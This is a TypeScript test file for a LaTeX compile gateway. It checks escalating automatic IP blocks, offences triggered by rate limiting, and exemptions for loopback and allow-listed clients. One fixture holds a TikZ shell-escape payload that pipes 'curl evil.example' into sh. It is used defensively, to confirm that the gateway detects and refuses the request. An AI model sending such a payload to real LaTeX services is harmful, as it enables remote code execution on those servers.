// Automatic blocks through real requests, on a fake clock: a CRITICAL signature blocks the client for
// 5 min, then 1 h, then 24 h; after the offence memory expires it starts again at 5 min. Repeated 429s
// count as an offence; loopback and allow-listed clients are never blocked automatically.
import { afterEach, describe, expect, it } from 'vitest';
import { request } from 'undici';
import { FakeClock } from '../../../src/core/clock.js';
import type { Decisions } from '../../../src/reputation/decisions.js';
import { baseConfig, COMPILE_ROUTE, startTestGateway, type TestGateway } from '../../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.js';

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
const BENIGN = JSON.stringify({ tikz_code: '\\draw (0,0) -- (1,1);' });

let up: TestUpstream | null = null;
let t: TestGateway | null = null;
afterEach(async () => {
  await t?.close();
  await up?.close();
  t = up = null;
});

async function start(extra: string, clock: FakeClock) {
  up = await startUpstream();
  // post() reads the reason codes from the refusal body: the client is told them whatever the shipped default
  const yaml = `${COMPILE_ROUTE}refusals:\n  disclose: codes\n${extra}`;
  t = await startTestGateway(baseConfig(up.url, yaml, '  trusted_proxies: [127.0.0.1/32]'), { clock });
  return t;
}

async function post(gw: TestGateway, body: string, client?: string) {
  const res = await request(`${gw.url}/compile`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(client ? { 'x-forwarded-for': client } : {}) },
    body,
  });
  const text = await res.body.text();
  return { status: res.statusCode, reasons: res.statusCode === 200 ? [] : (JSON.parse(text).reasons as string[]) };
}

/** The automatic block is written in the log phase, after the answer: wait for it to land. */
async function blocked(gw: TestGateway, client: string): Promise<number> {
  for (let i = 0; i < 100; i++) {
    const d = gw.gw.resources.get<Decisions>('decisions', () => {
      throw new Error('decisions not built');
    });
    const hit = d.findIp(client);
    if (hit !== null) return hit.expires - hit.created;
    await new Promise((r) => setTimeout(r, 10));
  }
  return 0;
}

describe('automatic blocks', () => {
  it('escalate 5 min, 1 h, 24 h over three offences, and start again after the memory expires', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start('decisions:\n  escalation: { steps_s: [300, 3600, 86400], remember_s: 172800 }\n', clock);
    const ip = '203.0.113.66';
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    const first = await post(gw, ATTACK, ip);
    expect(first.status).toBe(403);
    expect(first.reasons).toContain('sig:latex.shell-escape.write18');
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
    expect(await post(gw, BENIGN, '203.0.113.67')).toEqual({ status: 200, reasons: [] });
    clock.advance(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(HOUR);
    clock.advance(HOUR - 1_000);
    expect((await post(gw, BENIGN, ip)).reasons).toEqual(['block:rule']);
    clock.advance(1_000);

    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(DAY);
    clock.advance(DAY);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 200, reasons: [] });

    // two days after the last offence it is forgotten: the next one is a first offence again
    clock.advance(2 * DAY);
    expect((await post(gw, ATTACK, ip)).status).toBe(403);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
  });

  it('repeated rate-limit refusals become an offence', async () => {
    const clock = new FakeClock(1_800_000_000_000);
    const gw = await start(
      `rate_limits:
  tiers:
    anonymous:
      limits:
        - { name: per_minute, algorithm: gcra, rate: 1, period_s: 60, burst: 1 }
decisions:
  auto: { rate_limit_refusals: 3, rate_limit_window_s: 60 }
`,
      clock,
    );
    const ip = '198.51.100.33';
    const seen: number[] = [];
    for (let i = 0; i < 4; i++) seen.push((await post(gw, BENIGN, ip)).status);
    expect(seen).toEqual([200, 429, 429, 429]);
    expect(await blocked(gw, ip)).toBe(5 * MIN);
    expect(await post(gw, BENIGN, ip)).toEqual({ status: 403, reasons: ['block:rule'] });
  });

  it('never blocks loopback (exempt by default) or allow-listed clients automatically', async () => {
    const clock = new FakeClock();
    const gw = await start('reputation:\n  allow: [192.0.2.0/24]\n', clock);
    expect((await post(gw, ATTACK)).status).toBe(403); // from 127.0.0.1 itself
    expect((await post(gw, ATTACK, '192.0.2.5')).status).toBe(403);
    await new Promise((r) => setTimeout(r, 50));
    expect(await post(gw, BENIGN)).toEqual({ status: 200, reasons: [] });
    expect(await post(gw, BENIGN, '192.0.2.5')).toEqual({ status: 200, reasons: [] });
  });
});
